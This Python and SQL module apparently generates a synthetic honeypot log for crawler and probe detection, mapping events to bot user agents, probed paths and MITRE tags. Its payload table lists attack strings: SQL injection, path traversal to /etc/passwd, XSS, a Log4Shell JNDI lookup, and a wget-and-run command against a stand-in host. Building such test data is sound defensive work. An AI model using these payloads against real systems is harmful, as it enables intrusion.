"""A log derived from the events table: the input of the registered queries."""

from __future__ import annotations

from functools import cache

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions import match

#: Runs unchanged in Spark and in DuckDB.
DERIVED = """
WITH ua_dim(ua_k, ua) AS (VALUES
  (0,'Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)'),
  (1,'Mozilla/5.0 (compatible; ClaudeBot/1.0)'),
  (2,'CCBot/2.0 (https://commoncrawl.org/faq/)'),
  (3,'Mozilla/5.0 (compatible; Bytespider)'),
  (4,'Mozilla/5.0 (compatible; Googlebot/2.1)'),
  (5,'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36'),
  (6,'python-requests/2.31.0'),
  (7,'Scrapy/2.11 (+https://scrapy.org)'),
  (8,'Mozilla/5.0 (compatible; PoliteBot/1.0)'),
  (9,'libredtail-http'),
  (10,'')),
path_dim(path_k, path, resource) AS (VALUES
  (0,'/','index'),(1,'/docs/','docs_index'),(2,'/docs/p001/00.html','page'),
  (3,'/docs/p001/01.html','page'),(4,'/docs/p005/00.html','page'),
  (5,'/docs/restricted/index.html','restricted'),(6,'/public/','public'),
  (7,'/internal/exports/quarterly.html','stable_disallow_unlinked'),
  (8,'/assets/style.css','asset_css'),(9,'/no/such/page','not_found'),
  (10,'/llms.txt','policy')),
std_dim(std_k, standard) AS (VALUES
  (0,'robots'),(1,'robots_wellknown'),(2,'llms'),(3,'ai'),(4,'tdm_root'),(5,'sitemap'),
  (6,'humans'),(7,'meta_noai'),(8,'nofollow'),(9,'hidden_link'),(10,'js_beacon'),
  (11,'css_beacon'),(12,'control_allow')),
hunt_dim(hunt_k, hunt_path) AS (VALUES
  (0,'/api/tags'),(1,'/v1/models'),(2,'/api/jobs/'),(3,'/ws/v1/cluster/apps'),
  (4,'/v1.43/containers/json'),(5,'/.env'),(6,'/actuator/env'),(7,'/script')),
pay_dim(pay_k, raw_query) AS (VALUES
  (0,'id=1%20UNION%20SELECT%201'),(1,'file=../../../../etc/passwd'),
  (2,'q=%3Csvg%2Fonload%3Dalert(1)%3E'),(3,'page=http://evil.test/shell.txt?'),
  (4,'q=how+to+select+a+union+rep'),(5,'v=%24%7Bjndi%3Aldap%3A%2F%2Fzz.oast.pro%2Fa%7D'),
  (6,'cd+/tmp;wget+http://x.test/a.sh;sh+a.sh')),
derived AS (SELECT e.event_id AS seq, e.ts,
  CASE WHEN e.event_type IN ('view','click') THEN 'request'
       WHEN e.event_type = 'signup' THEN 'policy_read'
       WHEN e.event_type = 'error' AND e.event_id % 2 = 0 THEN 'trap_hit'
       WHEN e.event_type = 'error' THEN 'hunt'
       WHEN e.event_id % 2 = 0 THEN 'credential' ELSE 'request' END AS kind,
  'actor-' || CAST(e.user_id AS VARCHAR(20)) AS actor,
  CASE WHEN e.user_id % 3 = 0 THEN 'ja4' ELSE 'header_order' END AS actor_basis,
  '10.' || CAST(e.user_id % 4 AS VARCHAR(20)) || '.0.' || CAST((e.user_id * 7 + e.event_id % 2) % 250 AS VARCHAR(20)) AS ip,
  u.ua, p.path, p.resource,
  CASE WHEN p.path_k = 9 THEN 404 WHEN e.event_id % 13 = 0 THEN 304 ELSE 200 END AS status,
  e.event_id % 3 = 0 AS conditional,
  CASE WHEN p.resource = 'page' THEN 'h' || CAST(p.path_k AS VARCHAR(20)) END AS content_hash,
  CAST(round(e.value * 100) AS BIGINT) AS bytes,
  s.standard, h.hunt_path,
  CASE WHEN e.event_type = 'purchase' AND e.event_id % 2 = 1 THEN q.raw_query END AS raw_query,
  e.user_id, e.event_id
FROM events e
JOIN ua_dim u ON u.ua_k = e.user_id % 11
JOIN path_dim p ON p.path_k = e.event_id % 11
JOIN std_dim s ON s.std_k = e.event_id % 13
JOIN hunt_dim h ON h.hunt_k = e.event_id % 8
JOIN pay_dim q ON q.pay_k = e.event_id % 7)
"""


@cache
def _rules(app: str) -> tuple[Column, Column]:
    """Crawler and probe as columns, put together once per application: that takes a second."""
    return match.crawler(F.col("ua")), match.probe(F.col("hunt_path"))


def _asked(spark: SparkSession, sf_dir: str, stream: bool, what: str) -> DataFrame:
    events = spark.read.parquet(f"{sf_dir}/events.parquet")
    if stream:
        events = spark.readStream.schema(events.schema).parquet(f"{sf_dir}/events.parquet*")
    return spark.sql(DERIVED.replace("FROM events e", "FROM {events} e") + what, events=events)


def derived(spark: SparkSession, sf_dir: str, stream: bool = False) -> DataFrame:
    return _asked(spark, sf_dir, stream, " SELECT * FROM derived")


def log(spark: SparkSession, sf_dir: str, stream: bool = False) -> DataFrame:
    """The derived log in the shape of the event log: each kind has only its own fields.  With `stream`, a stream of it.

    Order is (ts, event_id), in one sortable column `seq`.  JA4 and similar names, which the table doesn't have, are
    derived from user_id and event_id.
    """
    d = derived(spark, sf_dir, stream).withColumn("seq", F.struct("ts", "event_id"))
    # The dimensions are a dozen rows each: their rows meet the rule tables, not the events'.
    agents = _asked(spark, sf_dir, False, " SELECT ua FROM ua_dim").withColumn("c", _rules(spark.sparkContext.applicationId)[0])
    hunts = _asked(spark, sf_dir, False, " SELECT hunt_path FROM hunt_dim").withColumn("p", _rules(spark.sparkContext.applicationId)[1])
    of = lambda *kinds: F.col("kind").isin(*kinds)
    only = lambda value, *kinds: F.when(of(*kinds), value)
    d = d.join(F.broadcast(agents), "ua").join(F.broadcast(hunts), "hunt_path")
    mod = lambda n: F.col("event_id") % n
    verdict = F.when(mod(3) == 0, "verified").when(mod(3) == 1, "impersonating").otherwise("unverifiable")
    return d.select(
        "seq", "event_id", "user_id", "kind", "ts", "ip", "ua",
        F.when(F.col("user_id") % 5 == 0, F.lit(None)).otherwise(F.col("actor")).alias("actor"), "actor_basis",
        F.concat(F.lit("s"), (F.col("user_id") % 2).cast("string")).alias("sensor"),
        F.when(mod(4) == 0, "attack").otherwise("docs").alias("face"),
        only(F.lit("GET"), "request", "hunt", "credential").alias("method"),
        F.when(of("hunt"), F.col("hunt_path")).otherwise(F.col("path")).alias("path"),
        only(F.col("resource"), "request").alias("resource"),
        only(F.col("status"), "request").alias("status"),
        only(F.col("conditional"), "request").alias("conditional"),
        only(F.col("content_hash"), "request").alias("content_hash"),
        only(F.col("bytes"), "request").alias("bytes"),
        F.when(~of("credential"), F.col("c.name")).alias("claimed_crawler"),
        only(F.col("c.operator"), "request").alias("operator"),
        only(F.col("standard"), "policy_read", "trap_hit").alias("standard"),
        only(mod(4) == 1, "trap_hit").alias("disallowed"),
        only(mod(5) == 0, "trap_hit").alias("split_fleet"),
        only(F.col("bytes") / 100.0, "trap_hit").alias("delay_seconds"),
        only(F.concat(F.lit("t"), (F.col("event_id") % 50).cast("string")), "policy_read", "trap_hit").alias("token"),
        F.when(of("request", "hunt") & (F.col("user_id") % 3 == 0), F.concat(F.lit("ja4-"), (F.col("user_id") % 17).cast("string"))).alias("ja4"),
        only(F.col("p.family"), "hunt").alias("family"),
        only(F.col("p.category"), "hunt").alias("category"),
        only(F.col("p.mitre"), "hunt").alias("mitre"),
        only(mod(8) == 1, "hunt").alias("decoy_served"),
        only(mod(16) == 3, "hunt").alias("stage"),
        F.when(of("hunt") & (mod(10) == 5), F.when(mod(20) == 5, "sqli").otherwise("cms_probe")).alias("web_attack"),
        only(F.when(mod(4) == 0, F.lit("basic")).otherwise(F.lit("form")), "credential").alias("scheme"),
        only(F.concat(F.lit("user"), (F.col("user_id") % 7).cast("string")), "credential").alias("user"),
        only(F.concat(F.lit("pw"), (F.col("event_id") % 5).cast("string")), "credential").alias("password"),
        only(F.col("p.family"), "credential").alias("persona"),
        only(F.col("raw_query"), "request").alias("raw_query"),
        F.when(of("policy_read") & (mod(6) == 0), verdict).alias("verdict"),
    )


#: The same in DuckDB.  C1's expected names are typed by hand for the user agents of the log.
LOG_SQL = DERIVED + """,
crawler_dim(c_k, c_name, c_op, c_method) AS (VALUES (0,'GPTBot','OpenAI','cidr'),(1,'ClaudeBot','Anthropic','cidr'),(2,'CCBot','Common Crawl','none'),
  (3,'Bytespider','ByteDance','none'),(4,'Googlebot','Google','rdns'),(6,'python-requests','library','none'),(7,'Scrapy','library','none')),
probe_dim(pk, p_family, p_category, p_mitre) AS (VALUES (0,'ollama','llm_inference',['T1046','T1496']),(1,'openai_compat','llm_inference',['T1046','T1496']),
  (2,'ray','gpu_ml',['T1190','T1496','T1610']),(3,'yarn','crypto_mining',['T1190','T1496']),(4,'docker','container',['T1610','T1613','T1496']),
  (5,'dotenv','cloud_creds',['T1552.001','T1078.004']),(6,'spring','cloud_creds',['T1552.001']),(7,'jenkins','exploit',['T1190','T1496'])),
log AS (SELECT event_id, user_id, kind, ts, ip, ua, CASE WHEN user_id % 5 = 0 THEN NULL ELSE actor END AS actor, actor_basis,
  's' || (user_id % 2) AS sensor, CASE WHEN event_id % 4 = 0 THEN 'attack' ELSE 'docs' END AS face,
  CASE WHEN kind IN ('request','hunt','credential') THEN 'GET' END AS method,
  CASE WHEN kind = 'hunt' THEN hunt_path ELSE path END AS path,
  CASE WHEN kind = 'request' THEN resource END AS resource, CASE WHEN kind = 'request' THEN status END AS status,
  CASE WHEN kind = 'request' THEN conditional END AS conditional, CASE WHEN kind = 'request' THEN content_hash END AS content_hash,
  CASE WHEN kind = 'request' THEN bytes END AS bytes, CASE WHEN kind <> 'credential' THEN c_name END AS claimed_crawler,
  CASE WHEN kind = 'request' THEN c_op END AS operator, CASE WHEN kind IN ('policy_read','trap_hit') THEN standard END AS standard,
  CASE WHEN kind = 'trap_hit' THEN event_id % 4 = 1 END AS disallowed, CASE WHEN kind = 'trap_hit' THEN event_id % 5 = 0 END AS split_fleet,
  CASE WHEN kind = 'trap_hit' THEN bytes / 100.0::DOUBLE END AS delay_seconds,
  CASE WHEN kind IN ('policy_read','trap_hit') THEN 't' || (event_id % 50) END AS token,
  CASE WHEN kind IN ('request','hunt') AND user_id % 3 = 0 THEN 'ja4-' || (user_id % 17) END AS ja4,
  CASE WHEN kind = 'hunt' THEN p_family END AS family, CASE WHEN kind = 'hunt' THEN p_category END AS category,
  CASE WHEN kind = 'hunt' THEN p_mitre END AS mitre, CASE WHEN kind = 'hunt' THEN event_id % 8 = 1 END AS decoy_served,
  CASE WHEN kind = 'hunt' THEN event_id % 16 = 3 END AS stage,
  CASE WHEN kind = 'hunt' AND event_id % 10 = 5 THEN CASE WHEN event_id % 20 = 5 THEN 'sqli' ELSE 'cms_probe' END END AS web_attack,
  CASE WHEN kind = 'credential' THEN CASE WHEN event_id % 4 = 0 THEN 'basic' ELSE 'form' END END AS scheme,
  CASE WHEN kind = 'credential' THEN 'user' || (user_id % 7) END AS "user", CASE WHEN kind = 'credential' THEN 'pw' || (event_id % 5) END AS password,
  CASE WHEN kind = 'credential' THEN p_family END AS persona, CASE WHEN kind = 'request' THEN raw_query END AS raw_query,
  CASE WHEN kind = 'policy_read' AND event_id % 6 = 0 THEN CASE event_id % 3 WHEN 0 THEN 'verified' WHEN 1 THEN 'impersonating' ELSE 'unverifiable' END END AS verdict,
  CASE WHEN ua = '' THEN '-' ELSE ua END AS client_ua, CASE WHEN kind = 'credential' OR c_name IS NULL THEN '-' ELSE c_name END AS client_claimed,
  user_id % 11 AS ua_k, event_id % 11 AS path_k, event_id % 7 AS pay_k
  FROM derived LEFT JOIN crawler_dim ON c_k = user_id % 11 JOIN probe_dim ON pk = event_id % 8)
"""
